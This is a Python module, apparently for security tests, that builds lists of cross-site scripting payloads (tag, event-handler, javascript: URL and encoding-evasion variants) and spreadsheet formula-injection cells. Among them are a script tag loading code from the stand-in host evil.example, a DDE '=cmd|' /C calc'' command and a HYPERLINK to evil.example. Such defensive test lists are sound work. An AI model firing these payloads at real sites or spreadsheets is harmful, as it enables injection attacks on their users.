"""What somebody who means harm types: our own lists, made from parts."""

from itertools import product

RUNS = ("alert(1)", "window.ran=1", "document.title='ran'", "fetch('/csp-report/')", "top.ran=1")
TAGS = (
    "<script>{run}</script>",
    "<ScRiPt >{run}</sCrIpT>",
    "</script><script>{run}</script>",
    "</title><script>{run}</script>",
    "</textarea><script>{run}</script>",
    "--><script>{run}</script><!--",
    "]]><script>{run}</script>",
    "<img src=x onerror={run}>",
    '<img src="x" onerror="{run}">',
    "<img/src/onerror={run}>",
    "<svg onload={run}>",
    "<svg><script>{run}</script></svg>",
    "<svg><animate onbegin={run} attributeName=x dur=1s>",
    "<math><mtext><img src=x onerror={run}></mtext></math>",
    "<body onload={run}>",
    "<details open ontoggle={run}><summary>x</summary></details>",
    "<video src=x onerror={run}></video>",
    "<audio src=x onerror={run}></audio>",
    "<input autofocus onfocus={run}>",
    "<select autofocus onfocus={run}></select>",
    "<textarea autofocus onfocus={run}></textarea>",
    "<marquee onstart={run}>x</marquee>",
    "<object data=javascript:{run}></object>",
    "<embed src=javascript:{run}>",
    "<iframe src=javascript:{run}></iframe>",
    '<iframe srcdoc="<script>{run}</script>"></iframe>',
    "<form action=javascript:{run}><button autofocus>x</button></form>",
    "<a href=javascript:{run}>x</a>",
    "<a href='java\tscript:{run}'>x</a>",
    "<a href=data:text/html,<script>{run}</script>>x</a>",
    "<base href=javascript:{run}//>",
    "<link rel=stylesheet href=data:text/css,*{{}} onload={run}>",
    "<link rel=import href=data:text/html,<script>{run}</script>>",
    "<meta http-equiv=refresh content=0;url=javascript:{run}>",
    "<style>@import 'data:text/css,*{{color:red}}';</style>",
    "<style onload={run}></style>",
    '" onmouseover="{run}" x="',
    "' onfocus='{run}' autofocus x='",
    '"><script>{run}</script>',
    "'><img src=x onerror={run}>",
    "` onerror={run} `",
    "javascript:{run}",
    "\x01javascript:{run}",
    "${{{run}}}",
    "{{{{{run}}}}}",
    "{{% load static %}}{{{{ request.user }}}}{run}",
    "[x](javascript:{run})",
    '![x](x"onerror="{run})',
    "<http://x/onload={run}>",
    "&lt;script&gt;{run}&lt;/script&gt;",
    "&#60;script&#62;{run}&#60;/script&#62;",
    "\\u003cscript\\u003e{run}\\u003c/script\\u003e",
    "%3Cscript%3E{run}%3C/script%3E",
    "＜script＞{run}＜/script＞",
    "<scr\x00ipt>{run}</scr\x00ipt>",
    "<script\u2028>{run}</script>",
    "<template><script>{run}</script></template>",
    '<noscript><p title="</noscript><img src=x onerror={run}>"></noscript>',
    "<xss style=animation-name:x onanimationstart={run}>",
    "<div contenteditable autofocus onfocus={run}>x</div>",
    "<script src=//evil.example/x.js></script>{run}",
    "<script type=module>{run}</script>",
    "<script>/*</script>*/{run}",
)
SCRIPTS = tuple(tag.format(run=run) for tag, run in product(TAGS, RUNS))
WHOLE = tuple(script for script in SCRIPTS if "\x00" not in script)

BEGINNINGS = (
    *("=1+1", "+1+1", "-1+1", "@SUM(1)", "|calc", "%1", "=1,2", '="a"'),
    *("=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example","x")'),
)
FULL_WIDTH = ("＝1+1", "＋1", "－1", "＠SUM(1)", "｜x", "％1", "﹦1", "﹢1", "﹣1", "﹫x", "﹪1", "⁼1", "₊1", "⁻1")
HIDDEN = (
    *("", " ", "  ", "\t", "\r", "\n", "\r\n", "\x00", "\x01", "\x0b", "\x0c", "\x1f", "\x7f", "\x85", "\xa0", "\xad", "\u034f", "\u061c"),
    *("\u115f", "\u1160", "\u1680", "\u17b4", "\u180e", "\u2000", "\u200b", "\u200c", "\u200d", "\u200e", "\u2028", "\u2029", "\u202e"),
    *("\u2060", "\u2064", "\u2066", "\u206f", "\u2800", "\u3000", "\u3164", "\ufe0f", "\ufeff", "\uffa0", "\U000e0001", "\u0301", "\u20dd"),
)
CELLS = tuple(f"{hidden}{start}" for hidden in HIDDEN for start in (*BEGINNINGS, *FULL_WIDTH)) + tuple(
    f"{mark}{start}" for mark in ("'", "''", " '", "\u200b'") for start in BEGINNINGS
)
